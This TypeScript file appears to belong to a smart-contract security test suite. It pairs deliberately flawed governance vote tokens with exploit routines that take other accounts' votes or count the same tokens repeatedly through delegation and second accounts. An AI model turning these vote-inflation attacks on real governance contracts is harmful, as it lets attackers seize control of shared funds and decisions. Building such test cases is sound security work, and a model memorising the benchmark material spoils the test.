/** Tokens of governors whose votes are taken from others without their consent, or count more than once. */
import type { Hex } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { callData } from '../chain.ts'
import { TENTH, TIMES, tokenOf, voted } from './lists.ts'
import { type Draft, voteAfter } from './walks.ts'

const MOVE = 'move(address,uint96)'
const DELEGATE = 'delegate(address)'

const held = (name: string): Case['build'] => voted('HonestBallots', tokenOf(name))

const delegateToSelf = ({ account, send }: Attack, token: Hex): Promise<void> =>
  send(token, DELEGATE, [account.address])

const taken: Case['exploit'] = voteAfter(async (attack, token) => {
  const { address } = attack.account
  await attack.send(token, 'take(address,address,uint96)', [await attack.chain.council(), address, 5n * TENTH])
  await delegateToSelf(attack, token)
})
const moved = (amount: bigint): Case['exploit'] =>
  voteAfter(async (attack, token) => {
    await attack.send(token, MOVE, [attack.account.address, amount])
    await delegateToSelf(attack, token)
  })
/** The same tokens count again for each further account that has them for a while. */
const passedOn: Case['exploit'] = voteAfter(async (attack, token) => {
  await delegateToSelf(attack, token)
  for (let n = 0; n < TIMES; n += 1) {
    const second = await attack.deploy('SecondAccount')
    await attack.send(token, MOVE, [second, TENTH])
    for (const call of [callData(DELEGATE, [attack.account.address]), callData(MOVE, [attack.account.address, TENTH])])
      await attack.send(second, 'run(address,bytes)', [token, call])
  }
})

const drafts: readonly Draft[] = [
  {
    name: 'every allowance but one lets an account take votes',
    cause: 'lying getter',
    build: held('AnyAllowance'),
    exploit: taken,
  },
  {
    name: 'an allowance of votes is lowered, but not needed',
    cause: 'lying getter',
    build: held('OptionalAllowance'),
    exploit: taken,
  },
  ...(
    [
      ['one amount of votes needs no allowance', 'CertainAmount'],
      ['two amounts of votes need no allowance', 'CertainAmounts'],
      ['an allowance of votes is lowered where it is enough, and not needed', 'SpareAllowance'],
    ] as const
  ).map(([name, token]): Draft => ({ name, cause: 'lying getter', build: held(token), exploit: taken })),
  {
    name: 'everyone but an account itself takes its votes',
    cause: 'lying getter',
    build: held('OtherAccount'),
    exploit: taken,
  },
  {
    name: 'an allowance of votes must be below a number',
    cause: 'lying getter',
    build: held('SmallAllowance'),
    exploit: taken,
  },
  {
    name: 'a transfer of votes takes fewer bits than it adds',
    cause: 'lying getter',
    build: held('NarrowTransfer'),
    exploit: moved(1n << 80n),
  },
  {
    name: 'a transfer of votes takes a part of what it adds',
    cause: 'lying getter',
    build: held('PartTransfer'),
    exploit: moved(1n << 80n),
  },
  {
    name: 'a transfer of votes compares fewer bits than it takes',
    cause: 'lying getter',
    build: held('NarrowCheck'),
    exploit: voteAfter(async (attack, token) => {
      await attack.send(token, MOVE, [await attack.deploy('SecondAccount'), 1n << 80n])
      await delegateToSelf(attack, token)
    }),
  },
  {
    name: 'a transfer of votes shifts the sum',
    cause: 'lying getter',
    by: 'one key',
    build: held('ShiftedTransfer'),
    exploit: moved(1n),
  },
  {
    name: 'a transfer leaves the votes with the delegate',
    cause: 'lying getter',
    by: 'one key',
    build: held('UnmovedVotes'),
    exploit: passedOn,
  },
  {
    name: 'a transfer of a certain amount leaves the votes with the delegate',
    cause: 'lying getter',
    by: 'one key',
    build: held('OftenMovedVotes'),
    exploit: passedOn,
  },
  {
    name: 'a transfer of two amounts leaves the votes with the delegate',
    cause: 'lying getter',
    by: 'one key',
    build: held('MostlyMovedVotes'),
    exploit: passedOn,
  },
  {
    name: 'an account names no delegate any more, which keeps the votes',
    cause: 'lying getter',
    by: 'one key',
    build: held('LeftVotes'),
    exploit: voteAfter(async (attack, token) => {
      for (let n = 0; n < TIMES; n += 1) {
        await attack.send(token, 'undelegate()')
        await delegateToSelf(attack, token)
      }
    }),
  },
  {
    name: 'votes are added to what a delegate had before they were taken from it',
    cause: 'lying getter',
    by: 'one key',
    build: held('DoubledVotes'),
    exploit: voteAfter(async (attack, token) => {
      await delegateToSelf(attack, token)
      for (let n = 0; n < TIMES; n += 1) await attack.send(token, 'name(address)', [attack.account.address])
    }),
  },
]

export const repeatedVotes: readonly Case[] = drafts.map((draft) => ({ by: 'anyone', truth: WEAK, ...draft }))
